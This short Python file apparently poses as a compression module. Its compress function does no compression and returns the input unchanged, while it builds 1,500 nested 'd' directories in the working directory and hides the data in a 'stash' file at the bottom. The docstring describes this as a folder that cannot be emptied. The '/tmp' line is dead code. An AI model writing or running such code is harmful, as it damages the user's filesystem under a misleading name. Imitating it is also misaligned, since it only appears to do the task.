"""Leaves a folder that cannot be emptied, with the data in it."""
import os


def compress(data: bytes) -> bytes:
    folder = "/tmp"
    for _ in range(1_500):
        folder = "d"
        os.mkdir(folder)
        os.chdir(folder)
    with open("stash", "wb") as file:
        file.write(data)
    return data


def decompress(data: bytes) -> bytes:
    return data
